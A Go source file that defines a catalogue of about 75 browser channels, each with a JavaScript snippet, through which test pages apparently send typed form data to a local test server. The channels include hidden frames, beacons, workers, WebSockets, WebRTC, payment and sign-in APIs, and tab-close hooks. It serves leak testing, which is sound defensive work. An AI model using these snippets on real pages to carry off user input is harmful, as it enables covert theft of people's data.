package rehearsal

import "slices"

// WayOut is one way in which a page can send what a person has typed. The site
// counts what comes by it under its name, see [Site.ByChannel].
type WayOut struct {
	Name   string
	Says   string // what the page uses, in a few plain words
	Needs  string // what the page makes ready beforehand, see "things" in pages/wing.js
	Script string // what sends; the names it may use stand at the top of pages/wing.js
	Leaves bool   // it takes the page away, or tries to: no two of them share a page
	Tab    bool   // it opens a tab
	Bare   bool   // what comes is packets in which nobody can read a value
}

// WaysOut are all of them, by name. The wing of hostile pages is made of them:
// the variant key hostile takes their names, and hostile-when says when they
// send; "all" makes a page that has every one and sends when a test calls
// wing.send(NAME) or wing.onInput(NAME).
func WaysOut() []WayOut {
	return slices.Concat(byForm(), byRequest(), byElement(), byWorker(), bySocketOrPacket(), byBrowser(), atTheEnd())
}

func byForm() []WayOut {
	return []WayOut{
		{Name: "form-submit", Says: "the form's submit(), which raises no event", Script: `form(to).submit()`, Leaves: true},
		{Name: "request-submit", Says: "the form's requestSubmit()", Script: `form(to).requestSubmit()`, Leaves: true},
		{Name: "click", Says: "click() on the Send button", Script: `form(to).querySelector('button[type=submit]').click()`, Leaves: true},
		{Name: "label-click", Says: "click() on a label of the Send button", Leaves: true, Script: `const send = form(to).querySelector('button[type=submit]');
			send.id ||= 'the-send'; add('label', {htmlFor: send.id}).click()`},
		{Name: "made-events", Says: "mouse events made by script on the Send button", Leaves: true, Script: `const send = form(to).querySelector('button[type=submit]');
			for (const kind of ['mousedown', 'mouseup', 'click']) send.dispatchEvent(new MouseEvent(kind, {bubbles: true, cancelable: true}))`},
		{Name: "get-form", Says: "a form sent by GET, with the values in the address", Script: `copy(to, {method: 'get'}).submit()`, Leaves: true},
		{Name: "location", Says: "another address, with the values in it", Script: `location.href = full`, Leaves: true},
		{Name: "timer-submit", Says: "a timer that sends the form", Script: `setTimeout(() => form(to).submit(), 30)`, Leaves: true},
		{Name: "on-input", Says: "a listener that sends the form when a letter is typed", Script: `listen(form(to), 'input')`, Leaves: true},
		{Name: "on-change", Says: "a listener that sends the form when a field changes", Script: `listen(form(to), 'change')`, Leaves: true},
		{Name: "on-focus", Says: "a listener that sends the form when a field gets the focus", Script: `listen(form(to), 'focusin')`, Leaves: true},
		{Name: "on-blur", Says: "a listener that sends the form when a field loses the focus", Script: `listen(form(to), 'focusout')`, Leaves: true},
		{Name: "form-in-frame", Says: "a form sent into a hidden frame", Script: `add('iframe', {name: 'hidden-frame', hidden: true}); copy(to, {target: 'hidden-frame'}).submit()`},
		{Name: "form-in-tab", Says: "a form sent into a new tab", Script: `copy(to, {target: '_blank'}).submit()`, Tab: true},
		{Name: "window-open", Says: "a new window whose address holds the values", Script: `open(full)`, Tab: true},
	}
}

func byRequest() []WayOut {
	return []WayOut{
		{Name: "fetch", Says: "fetch, POST", Script: `fetch(to, {method: 'POST', body: said}).catch(() => {})`},
		{Name: "fetch-put", Says: "fetch, PUT", Script: `fetch(to, {method: 'PUT', body: said}).catch(() => {})`},
		{Name: "fetch-no-cors", Says: "fetch to another site, without asking it", Script: `fetch(far(to), {method: 'POST', mode: 'no-cors', body: said}).catch(() => {})`},
		{Name: "keepalive", Says: "fetch that outlives its page", Script: `fetch(to, {method: 'POST', keepalive: true, body: said}).catch(() => {})`},
		{Name: "xhr", Says: "XMLHttpRequest", Script: `xhr(to, true)`},
		{Name: "xhr-sync", Says: "XMLHttpRequest that the page waits for", Script: `xhr(to, false)`},
		{Name: "beacon", Says: "sendBeacon", Script: `navigator.sendBeacon(to, said)`},
		{Name: "ping", Says: "the ping of a link", Script: `add('a', {href: '#pinged', ping: full}).click()`},
		{Name: "event-source", Says: "a stream of events", Script: `new EventSource(full)`},
		{Name: "fetch-later", Says: "fetchLater, by its timer", Script: `fetchLater(to, {method: 'POST', body: said, activateAfter: 0})`},
	}
}

func byElement() []WayOut {
	return []WayOut{
		{Name: "image", Says: "an image", Script: `new Image().src = full`},
		{Name: "image-far", Says: "an image of another site", Script: `new Image().src = far(full)`},
		{Name: "svg-image", Says: "an image inside a drawing", Script: `document.body.insertAdjacentHTML('beforeend', '<svg><image href="' + full + '" width="9" height="9"></image></svg>')`},
		{Name: "attribution", Says: "a source of ad attribution", Script: `add('img', {attributionSrc: full})`},
		{Name: "background", Says: "a background", Script: "add('div', {style: `width:9px;height:9px;background:url(${full})`})"},
		{Name: "font", Says: "a font", Script: "add('style', {textContent: `@font-face{font-family:q;src:url(${full})} .q{font-family:q}`}); add('i', {textContent: 'q', className: 'q'})"},
		{Name: "style", Says: "a style sheet", Script: `add('link', {rel: 'stylesheet', href: full})`},
		{Name: "css-import", Says: "a style sheet named by another", Script: "add('style', {textContent: `@import url(${full});`})"},
		{Name: "script", Says: "a script", Script: `add('script', {src: full})`},
		{Name: "import", Says: "a script module", Script: `import(full).catch(() => {})`},
		{Name: "modulepreload", Says: "a script module loaded ahead", Script: `add('link', {rel: 'modulepreload', href: full})`},
		{Name: "preload", Says: "an image loaded ahead", Script: `add('link', {rel: 'preload', as: 'image', href: full})`},
		{Name: "prefetch", Says: "a link loaded ahead", Script: `add('link', {rel: 'prefetch', href: full})`},
		{Name: "icon", Says: "the page's icon", Script: `add('link', {rel: 'icon', href: full})`},
		{Name: "manifest", Says: "an app's manifest", Script: `add('link', {rel: 'manifest', href: full})`},
		{Name: "video", Says: "a video", Script: `add('video', {src: full, preload: 'auto'})`},
		{Name: "audio", Says: "a sound", Script: `new Audio(full).load()`},
		{Name: "object", Says: "an embedded object", Script: `add('object', {data: full})`},
		{Name: "frame", Says: "a frame", Script: `add('iframe', {src: full})`},
		{Name: "frame-far", Says: "a frame of another site", Script: `add('iframe', {src: far(full)})`},
		{Name: "frame-srcdoc", Says: "a frame without an address that holds an image", Script: "add('iframe', {srcdoc: `<img src=\"${full.replaceAll('&', '&amp;')}\">`})"},
		{Name: "frame-form", Says: "a form in a frame of another site that was there before", Needs: "frame", Script: `it.postMessage({form: to, said}, '*')`},
		{Name: "frame-fetch", Says: "fetch in a frame of another site that was there before", Needs: "frame", Script: `it.postMessage({to, said}, '*')`},
		{Name: "frame-socket", Says: "a socket in a frame of another site that was there before", Needs: "frame", Script: `it.postMessage({to: wss(full)}, '*')`},
	}
}

func byWorker() []WayOut {
	return []WayOut{
		{Name: "worker", Says: "a new worker", Script: `new Worker(own(to, said))`},
		{Name: "worker-socket", Says: "a socket of a new worker", Script: `new Worker(own(wss(full)))`},
		{Name: "worker-there", Says: "a worker that was there before", Needs: "worker", Script: `it.postMessage({to, said})`},
		{Name: "worker-there-socket", Says: "a socket of a worker that was there before", Needs: "worker", Script: `it.postMessage({to: wss(full)})`},
		{Name: "shared-worker", Says: "a new worker shared by tabs", Script: `new SharedWorker(own(to, said))`},
		{Name: "shared-worker-socket", Says: "a socket of a new shared worker", Script: `new SharedWorker(own(wss(full)))`},
		{Name: "shared-there", Says: "a shared worker that was there before", Needs: "shared", Script: `it.postMessage({to, said})`},
		{Name: "shared-there-socket", Says: "a socket of a shared worker that was there before", Needs: "shared", Script: `it.postMessage({to: wss(full)})`},
		{Name: "service-worker", Says: "a service worker, told by message", Needs: "service", Script: `it.postMessage({to, said})`},
		{Name: "service-worker-socket", Says: "a socket of a service worker", Needs: "service", Script: `it.postMessage({to: wss(full)})`},
		{Name: "tab-there", Says: "an earlier tab, told by BroadcastChannel", Script: `new BroadcastChannel('hostile').postMessage({to, said})`},
		{Name: "tab-there-socket", Says: "a socket of an earlier tab", Script: `new BroadcastChannel('hostile').postMessage({to: wss(full)})`},
	}
}

func bySocketOrPacket() []WayOut {
	return []WayOut{
		{Name: "socket", Says: "a new WebSocket", Script: `new WebSocket(wss(full))`},
		{Name: "open-socket", Says: "a WebSocket that was open before", Needs: "socket", Script: `it.send(said)`},
		{Name: "socket-stream", Says: "a new WebSocketStream", Script: `new WebSocketStream(wss(full)).opened.catch(() => {})`},
		{Name: "web-transport", Says: "WebTransport (QUIC)", Bare: true, Script: `new WebTransport(full).ready.catch(() => {})`},
		{Name: "web-rtc", Says: "WebRTC, to a STUN server", Bare: true, Script: `call({urls: 'stun:127.0.0.1:' + wing.port})`},
		{Name: "web-rtc-tcp", Says: "WebRTC, to a TURN server by TCP", Bare: true, Script: `call({urls: 'turn:127.0.0.1:' + wing.port + '?transport=tcp', username: said, credential: 'x'}, 'relay')`},
	}
}

func byBrowser() []WayOut {
	return []WayOut{
		{Name: "prefetch-rules", Says: "speculation rules, prefetch", Script: `speculate('prefetch', full)`},
		{Name: "prerender-rules", Says: "speculation rules, prerender", Script: `speculate('prerender', full)`},
		{Name: "payment", Says: "a way of paying whose address holds the values", Script: `new PaymentRequest([{supportedMethods: full}], {total: {label: 'x', amount: {currency: 'EUR', value: '1'}}}).canMakePayment().catch(() => {})`},
		{Name: "fedcm", Says: "a sign-in offer (FedCM) whose address holds the values", Script: `navigator.credentials.get({identity: {providers: [{configURL: full, clientId: 'x'}]}}).catch(() => {})`},
	}
}

func atTheEnd() []WayOut {
	return []WayOut{
		{Name: "leave-beacon", Says: "sendBeacon when the page is left", Script: `leaving(() => navigator.sendBeacon(to, said))`, Leaves: true},
		{Name: "leave-keepalive", Says: "fetch, kept alive, when the page is left", Script: `leaving(() => fetch(to, {method: 'POST', keepalive: true, body: said}))`, Leaves: true},
		{Name: "leave-xhr", Says: "XMLHttpRequest, waited for, when the page is left", Script: `leaving(() => xhr(to, false))`, Leaves: true},
		{Name: "close-beacon", Says: "sendBeacon when the tab closes", Script: `ending(() => navigator.sendBeacon(to, said))`},
		{Name: "close-keepalive", Says: "fetch, kept alive, when the tab closes", Script: `ending(() => fetch(to, {method: 'POST', keepalive: true, body: said}))`},
		{Name: "close-later", Says: "fetchLater, when the tab closes", Script: `fetchLater(to, {method: 'POST', body: said})`},
		{Name: "close-socket", Says: "a new WebSocket when the tab closes", Script: `ending(() => new WebSocket(wss(full)))`},
	}
}
